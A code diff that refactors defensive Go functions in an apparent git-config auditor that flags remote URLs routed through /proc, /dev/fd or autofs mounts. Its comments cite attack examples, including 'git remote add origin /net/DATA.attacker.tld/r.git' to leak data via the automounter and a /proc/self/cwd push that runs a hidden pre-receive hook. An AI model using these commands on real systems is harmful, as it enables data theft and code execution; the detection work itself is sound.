@@ -2335,65 +2335,27 @@ func (a *auditor) hiddenURL(p string, e Entry) string {
 	return ""
 }
 
-// procURL says why e, a remote's or a submodule's URL in config p, is a
-// local path through /proc or /dev/fd, or "": git resolves such a path in
-// its own process (/proc/self/cwd is the work tree of the user's git
-// push), the audit in moat's, so it judged another place than git goes to:
-// a bare repository hidden in .git, pushed to as
-// /proc/self/cwd/.git/mirror.git, ran its pre-receive hook (found by
-// attack pass 53; TestAuditRemoteURLThroughProc). Relative URLs are
-// judged from the work tree and from the git directory, as git may take
-// either.
-func (a *auditor) procURL(p string, e Entry) string {
+// urlWays are the local paths git may take e, a remote's or a
+// submodule's URL in config p (or a branch's remote, which may be a URL),
+// for: none for a network URL or a remote's name; a relative one from the
+// work tree and from the git directory, as git may take either, ".." after
+// a symlink as the kernel takes it.
+func (a *auditor) urlWays(p string, e Entry) []string {
 	if !e.HasValue {
-		return ""
+		return nil
 	}
 	switch e.Section() + "." + e.Key() {
 	case "remote.url", "remote.pushurl", "submodule.url",
 		// a remote's name, or a URL where no remote has that name
 		"remote.pushdefault", "branch.pushremote", "branch.remote":
 	default:
-		return ""
+		return nil
 	}
 	u, ok := remotePath(e.Value)
 	if !ok || !strings.Contains(u, "/") {
-		return "" // a remote's name (or a path in the work tree, the walk's)
+		return nil // a remote's name (or a path in the work tree, the walk's)
 	}
-	for _, base := range []string{filepath.Dir(filepath.Dir(p)), filepath.Dir(p)} {
-		c := u
-		switch {
-		case strings.HasPrefix(u, "~"):
-			c = ConfigPath(u, base, a.o.Home)
-		case !filepath.IsAbs(u):
-			c = base + "/" + u // ".." after a symlink, as the kernel takes it
-		}
-		if c != "" && procOnWay(c) {
-			return "names " + quoteName(e.Value) + ", a path through /proc or /dev/fd: git resolves it in its own process, to a repository moat cannot judge"
-		}
-	}
-	return ""
-}
-
-// autofsURL says why e, a remote's or a submodule's URL in config p, is a
-// local path below an autofs mount nothing covers, or "": the user's git
-// push or fetch would ask the host's automounter for a name the command
-// chose (git remote add origin /net/DATA.attacker.tld/r.git; attack pass
-// 56, autofs.go). Relative URLs are judged from the work tree and from
-// the git directory, as procURL does.
-func (a *auditor) autofsURL(p string, e Entry) string {
-	if !e.HasValue {
-		return ""
-	}
-	switch e.Section() + "." + e.Key() {
-	case "remote.url", "remote.pushurl", "submodule.url",
-		"remote.pushdefault", "branch.pushremote", "branch.remote":
-	default:
-		return ""
-	}
-	u, ok := remotePath(e.Value)
-	if !ok || !strings.Contains(u, "/") {
-		return ""
-	}
+	var ways []string
 	for _, base := range []string{filepath.Dir(filepath.Dir(p)), filepath.Dir(p)} {
 		c := u
 		switch {
@@ -2402,9 +2364,33 @@ func (a *auditor) autofsURL(p string, e Entry) string {
 		case !filepath.IsAbs(u):
 			c = base + "/" + u
 		}
-		if c != "" && autofsOnWay(c, true) {
-			return "names " + quoteName(e.Value) + ", " + autofsWhere
+		if c != "" {
+			ways = append(ways, c)
 		}
+	}
+	return ways
+}
+
+// procURL says why e (urlWays) is a local path through /proc or /dev/fd,
+// or "": git resolves such a path in its own process (/proc/self/cwd is
+// the work tree of the user's git push), the audit in moat's, so it judged
+// another place than git goes to: a bare repository hidden in .git, pushed
+// to as /proc/self/cwd/.git/mirror.git, ran its pre-receive hook (found by
+// attack pass 53; TestAuditRemoteURLThroughProc).
+func (a *auditor) procURL(p string, e Entry) string {
+	if slices.ContainsFunc(a.urlWays(p, e), procOnWay) {
+		return "names " + quoteName(e.Value) + ", a path through /proc or /dev/fd: git resolves it in its own process, to a repository moat cannot judge"
+	}
+	return ""
+}
+
+// autofsURL says why e (urlWays) is a local path below an autofs mount
+// nothing covers, or "": the user's git push or fetch would ask the host's
+// automounter for a name the command chose (git remote add origin
+// /net/DATA.attacker.tld/r.git; attack pass 56, autofs.go).
+func (a *auditor) autofsURL(p string, e Entry) string {
+	if slices.ContainsFunc(a.urlWays(p, e), func(c string) bool { return autofsOnWay(c, true) }) {
+		return "names " + quoteName(e.Value) + ", " + autofsWhere
 	}
 	return ""
 }
